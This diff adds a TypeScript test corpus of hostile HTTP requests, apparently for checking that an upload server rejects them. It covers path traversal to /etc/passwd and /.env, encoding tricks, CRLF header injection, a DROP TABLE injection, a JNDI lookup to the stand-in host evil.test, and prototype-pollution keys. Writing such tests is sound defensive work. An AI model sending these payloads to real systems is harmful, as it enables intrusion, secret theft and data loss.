@@ -1,0 +1,127 @@
+import {
+  CANARY,
+  get,
+  type HostileRequest,
+  hostile,
+  LINK,
+  OPEN_UPLOAD,
+  postJson,
+  TOKEN,
+} from '../requests.ts'
+
+/** Against paths and ids: in the address, and in bodies. */
+
+const IDS: [name: string, encoded: string][] = [
+  ['dots and slashes', `..%2f..%2f..%2f${CANARY}`],
+  ['dots and slashes in plain', `../../../../${CANARY}`],
+  ['encoded dots', `%2e%2e%2f%2e%2e%2f${CANARY}`],
+  ['twice encoded dots', `%252e%252e%252f${CANARY}`],
+  ['backslashes', `..%5c..%5c${CANARY}`],
+  ['a NUL', `a%00${CANARY}`],
+  ['a NUL before an ending', `..%2f${CANARY}%00.chunk`],
+  ['an overlong slash', `..%c0%af..%c0%af${CANARY}`],
+  ['an overlong dot', `%c0%ae%c0%ae/${CANARY}`],
+  ['a broken percent', '%'],
+  ['a percent without digits', '%zz'],
+  ['half a character', '%e2%82'],
+  ['a lone surrogate', '%ed%a0%80'],
+  ['a fullwidth slash', `%ef%bc%8f..%ef%bc%8f${CANARY}`],
+  ['a right-to-left override', '%e2%80%aefdp.exe'],
+  ['a zero-width space', 'a%e2%80%8bb'],
+  ['a line end', `a%0d%0aSet-Cookie:%20${CANARY}=1`],
+  ['a line separator', 'a%e2%80%a8b'],
+  ['a space', '%20'],
+  ['an IIS escape', '%u002e%u002e%u002f'],
+  ['a semicolon', `${OPEN_UPLOAD};jsessionid=1`],
+  ['a question mark encoded', `${OPEN_UPLOAD}%3ftoken=${TOKEN}`],
+  ['a hash', `${OPEN_UPLOAD}#x`],
+  ['__proto__', '__proto__'],
+  ['constructor', 'constructor'],
+  ['hasOwnProperty', 'hasOwnProperty'],
+  ['129 characters', 'a'.repeat(129)],
+  ['201 characters', 'a'.repeat(201)],
+  ['6,000 characters', 'a'.repeat(6000)],
+  ['20,000 characters', 'a'.repeat(20_000)],
+  ['a device', 'CON'],
+  ['SQL', `'%3bDROP%20TABLE%20uploads--`],
+  ['a template', '$%7bjndi:ldap:%2f%2fevil.test%2fa%7d'],
+  ['a pattern', '%28a+%29+%24'],
+]
+
+const ROUTES = ['/upload-progress/', '/upload-status/']
+
+const TARGETS: [name: string, target: string][] = [
+  ['an absolute address', 'http://worker.test/health'],
+  ['an absolute address of another host', 'http://evil.test/health'],
+  ['an absolute address with a password', `http://user:${TOKEN}@worker.test/health`],
+  ['another scheme', 'file:///etc/passwd'],
+  ['a star', '*'],
+  ['two slashes', '//evil.test/..%2f'],
+  ['a backslash', '\\health'],
+  ['dots', '/../../../../etc/passwd'],
+  ['dots in a static-looking path', '/docs/static/..%2f..%2f..%2fetc/passwd'],
+  ['dots in a file path', '/files/..%2f..%2f..%2fetc%2fpasswd'],
+  ['a dot file', '/.env'],
+  ['the key', '/data/ledger.key'],
+  ['a query of nothing', '/?'],
+  ['a query of ten thousand fields', `/download?${'a=1&'.repeat(3500)}`],
+  ['a query named __proto__', '/download?__proto__[messageId]=1&constructor[prototype][x]=1'],
+  ['a query twice', '/download?messageId=1&messageId=2&token=a&token=b'],
+  ['a query in brackets', '/download?messageId[]=1&messageId[a]=2&token[b]=c'],
+  ['a token in the path', `/download/${LINK}`],
+  ['no path', ''],
+  ['bytes above 127', '/\xff\xfe\x80'],
+  ['a control character', '/\x01\x1b[31m'],
+  ['15,000 characters', `/${'a'.repeat(15_000)}`],
+  ['4,000 folders', '/a'.repeat(4000)],
+]
+
+const JSON_IDS: unknown[] = [
+  `../../../../${CANARY}`,
+  `a\0${CANARY}`,
+  `..\\..\\${CANARY}`,
+  '\ud800',
+  '\u202egnp.exe',
+  '．．／etc',
+  '',
+  ' ',
+  '.',
+  '..',
+  '~',
+  'a\r\nb',
+  'é',
+  'e\u0301',
+  'ａ',
+  'a'.repeat(129),
+  'a'.repeat(60_000),
+  1,
+  0,
+  -1,
+
+  true,
+  null,
+  [],
+  ['a'],
+  {},
+  { toString: 'a' },
+]
+
+export const pathCorpus: HostileRequest[] = [
+  ...ROUTES.flatMap((route) =>
+    IDS.flatMap(([name, id]) => [
+      hostile(`an id of ${name} at ${route}`, get(route + id)),
+      hostile(`the same, with a token: ${name} at ${route}`, get(`${route}${id}?token=${TOKEN}`)),
+    ]),
+  ),
+  ...TARGETS.map(([name, target]) => hostile(`GET ${name}`, get(target))),
+  ...TARGETS.map(([name, target]) => hostile(`HEAD ${name}`, { ...get(target), method: 'HEAD' })),
+  ...['/complete-upload', '/cancel-upload', '/init-upload'].flatMap((route) =>
+    JSON_IDS.map((uploadId, at) =>
+      hostile(
+        `${route} with a bad id, number ${at}`,
+        postJson(route, { uploadId, fileName: 'f', totalChunks: 1, fileSize: 1, authToken: TOKEN }),
+        400,
+      ),
+    ),
+  ),
+]
